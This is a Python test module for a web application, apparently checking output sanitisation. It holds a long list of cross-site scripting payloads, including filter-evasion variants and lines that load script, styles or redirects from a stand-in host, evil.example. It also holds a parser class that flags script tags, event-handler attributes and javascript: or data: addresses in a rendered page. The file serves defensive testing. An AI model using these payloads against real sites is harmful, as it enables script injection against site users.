"""Texts that try to become markup, and what a parser finds in the page they ended up in."""

from html.parser import HTMLParser

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p><script>alert(1)</script><p>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=x onerror\n=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "javascript:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'onmouseover='alert(1)",
    "https://evil.example/`onmouseover=`alert(1)",
    "https://evil.example/><script>alert(1)</script>",
    "https://evil.example/?q=<img src=x onerror=alert(1)>",
    "http://javascript:alert(1)@evil.example/",
    "https://javascript:alert(1)/",
    'mailto:"onmouseover=alert(1)"@evil.example',
    'a@evil.example"onmouseover="alert(1)',
    'tel:+32"onmouseover="alert(1)',
    "tel:javascript:alert(1)",
    "- <script>alert(1)</script>",
    "* <img src=x onerror=alert(1)>",
    '• https://evil.example/"onclick="alert(1)',
    "{{ 7|add:7 }}{% load static %}<b onclick=alert(1)>x</b>",
    "%(name)s %s {0.__class__} ${alert(1)}<b onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "<\x00script>alert(1)</script>",
    "<img src=x one\u200brror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "' onerror='alert(1)",
]


class Marked(HTMLParser):
    """What a page is made of: its elements with their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data

    def names(self) -> set[str]:
        return {name for name, _attributes in self.elements}

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.elements if name == tag]

    def dangers(self) -> list[str]:
        """Whatever could run or lead astray, in words."""
        found = []
        for tag, attributes in self.elements:
            for name, value in attributes.items():
                address = "".join((value or "").split()).lower()
                if name.startswith("on") or name in ("style", "srcdoc"):
                    found.append(f"{tag} {name}")
                # Our own buttons name an address of ours; a typed one names a scheme.
                if name == "formaction" and not address.startswith("/"):
                    found.append(f"{tag} {name} {value}")
                is_address = name in ("href", "src", "action", "xlink:href", "data", "poster")
                if is_address and address.startswith(("javascript:", "data:", "vbscript:")):
                    found.append(f"{tag} {name} {value}")
            is_ours = (attributes.get("src") or "").startswith("/static/")
            is_data = attributes.get("type") == "application/json"
            if tag == "script" and not (is_ours or is_data):
                found.append("script of its own")
            if tag in ("iframe", "object", "embed", "base", "style"):
                found.append(tag)
        return found
